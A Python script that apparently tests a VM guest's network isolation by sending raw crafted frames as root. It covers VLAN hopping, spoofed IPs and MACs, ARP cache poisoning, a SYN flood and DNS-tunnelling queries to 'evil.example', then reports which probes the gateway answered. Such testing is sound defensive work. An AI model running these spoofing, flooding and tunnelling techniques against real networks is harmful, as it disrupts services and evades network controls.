"""Sends frames that no kernel would send, as root of the guest. Says what came of it, a line each."""

import socket
import struct
import sys
import time

GUEST, GATEWAY, GOOD, INSIDE = (socket.inet_aton(a) for a in ("100.127.255.254", "100.127.255.253", "93.184.216.34", "10.0.0.1"))
OUR_MAC = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
GATEWAY_MAC = bytes.fromhex("027362780001")
BROADCAST = b"\xff" * 6

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 0))


def checksum(data):
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(protocol, data, source=GUEST, to=GOOD, fragment=0, off=0):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 7, fragment, 64, protocol, 0, source, to)
    return head[:10] + struct.pack("!H", checksum(head) ^ off) + head[12:] + data


def transport(protocol, head, at, data=b"", source=GUEST, to=GOOD, off=0):
    """With its checksum at this place of the header (RFC 768, RFC 9293)."""
    pseudo = source + to + struct.pack("!BBH", 0, protocol, len(head) + len(data))
    sum_ = checksum(pseudo + head + data) ^ off
    return head[:at] + struct.pack("!H", sum_) + head[at + 2 :] + data


def udp(data, source=GUEST, off=0, to=GOOD):
    return transport(17, struct.pack("!HHHH", 4000, 7, 8 + len(data), 0), 6, data, source, to, off)


def ethernet(packet, to=GATEWAY_MAC, source=OUR_MAC, kind=b"\x08\x00"):
    return to + source + kind + packet


def datagram(name, **changes):
    """A datagram that says its name, to a place that is allowed."""
    whole = udp(name.encode(), changes.get("source", GUEST), changes.get("udp_off", 0))
    return ip(17, whole, **{key: value for key, value in changes.items() if key in ("source", "fragment", "off")})


def arp(operation, sender_mac, sender, target_mac, target, to=BROADCAST):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender_mac + sender + target_mac + target
    return ethernet(body, to=to, kind=b"\x08\x06")


def heard(matches):
    """The frames for which this holds, as they come, until there was none of any kind for a second."""
    wire.settimeout(1)
    try:
        while True:
            frame = wire.recv(70000)
            if matches(frame):
                yield frame
    except TimeoutError:
        pass


def answers(frame, matches):
    """Whether a frame comes soon for which this holds."""
    wire.send(frame)
    return next(heard(matches), None) is not None


def is_arp_of(address):
    return lambda frame: frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2" and frame[28:32] == address


def is_echo(frame):
    return frame[12:14] == b"\x08\x00" and frame[23] == 1 and frame[34] == 0


def is_answer(frame):
    return frame[12:14] == b"\x08\x00" and frame[23] == 17 and frame[34:38] == struct.pack("!HH", 7, 4000)


def frames():
    vlan = b"\x81\x00\x00\x05\x08\x00"
    wrong = {
        "tagged": ethernet(datagram("tagged"), kind=vlan),
        "tagged twice": ethernet(datagram("tagged twice"), kind=b"\x88\xa8\x00\x05" + vlan),
        "from another address": ethernet(datagram("from another address", source=INSIDE)),
        "from the gateway": ethernet(datagram("from the gateway", source=GATEWAY)),
        "to another card": ethernet(datagram("to another card"), to=b"\x02\0\0\0\0\1"),
        "first fragment": ethernet(datagram("first fragment", fragment=0x2000)),
        "last fragment": ethernet(datagram("last fragment", fragment=1)),
        "wrong sum of the header": ethernet(datagram("wrong sum of the header", off=1)),
        "wrong sum": ethernet(datagram("wrong sum", udp_off=1)),
        "half a packet": ethernet(datagram("half a packet"))[:36],
        "no packet": ethernet(b""),
    }
    for frame in wrong.values():
        wire.send(frame)
    # Only the guest is at this end of the cable, whatever its card calls itself; answers go to the address that it was given.
    wire.send(ethernet(datagram("from a card of another name"), source=b"\x02\0\0\0\0\1"))
    wire.send(ethernet(datagram("as it should be")))
    print("answered:", ", ".join(frame[42:].decode() for frame in heard(is_answer)))


def neighbours():
    ours = OUR_MAC, GUEST, b"\0" * 6
    print("the gateway is found:", answers(arp(1, *ours, GATEWAY), is_arp_of(GATEWAY)))
    print("others are found:", any(answers(arp(1, *ours, other), is_arp_of(other)) for other in (INSIDE, GOOD)))
    for address in (GATEWAY, GOOD, INSIDE):
        wire.send(arp(1, OUR_MAC, address, b"\0" * 6, address))
        wire.send(arp(2, OUR_MAC, address, GATEWAY_MAC, GATEWAY, to=GATEWAY_MAC))
    echo = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    print("the gateway echoes:", answers(ethernet(ip(1, echo, to=GATEWAY)), is_echo))
    print("others echo:", answers(ethernet(ip(1, echo)), is_echo))


def flood(count):
    """Connections that are never completed, to a place that is allowed and answers nobody."""
    base = bytearray(ethernet(ip(6, b"\0" * 20)))
    for number in range(count):
        head = struct.pack("!HHIIBBHHH", 1024 + number % 60000, 9005, number, 0, 0x50, 2, 1024, 0, 0)
        base[34:] = transport(6, head, 16)
        try:
            wire.send(base)
        except OSError:
            # The card's queue is full; the rest is sent all the same.
            pass
    print("flooded")


def tunnel(count):
    """Names that are made up to tell something, as long as names can be, below one that no rule allows and one that a rule does."""
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(count):
        for suffix in ("evil.example", "good.example"):
            labels = [f"{number:063d}", "x" * 63, "y" * 63, *suffix.split(".")]
            name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
            question = struct.pack("!HHHHHH", number, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1)
            resolver.sendto(question, (socket.inet_ntoa(GATEWAY), 53))


if sys.argv[1:] == ["flood"]:
    flood(100_000)
else:
    frames()
    neighbours()
    begin = time.monotonic()
    tunnel(1000)
    print("tunnelled", int(time.monotonic() - begin) + 1)
